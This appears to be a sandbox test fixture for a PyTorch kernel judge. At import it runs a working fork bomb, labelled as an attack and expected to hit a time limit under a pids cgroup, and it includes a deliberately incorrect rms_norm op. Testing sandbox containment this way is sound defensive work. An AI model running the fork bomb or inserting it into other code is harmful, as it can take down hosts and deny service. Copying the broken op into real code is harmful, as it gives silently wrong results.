# expect: time_limit_exceeded
# safety: pids
"""Attack: a fork bomb at import: every process forks in a loop and keeps going when fork fails.

Only run where a pids cgroup caps the worker (RLIMIT_NPROC is ignored for root): without one this
would take the host down. Every bomb process must be gone when the judgement ends."""

import os

import torch
from torch import Tensor

while True:
    try:
        os.fork()
    except OSError:
        pass

# ---------------------------------------------------------------- wrong ops (the honest part of this file)

@torch.library.custom_op("ex100::kv_write", mutates_args=("k_cache", "v_cache"))
def kv_write(k_cache: Tensor, v_cache: Tensor, slots: Tensor, k: Tensor, v: Tensor) -> None:
    k_cache.index_copy_(0, slots, k)
    v_cache.index_copy_(0, slots, v)


@kv_write.register_fake
def _(k_cache, v_cache, slots, k, v):
    return None


@torch.library.custom_op("ex100::rms_norm", mutates_args=())
def rms_norm(x: Tensor, weight: Tensor, eps: float = 1e-6) -> Tensor:
    return x * weight  # wrong: never normalises (and no backward is registered)


@rms_norm.register_fake
def _(x, weight, eps=1e-6):
    return torch.empty_like(x)
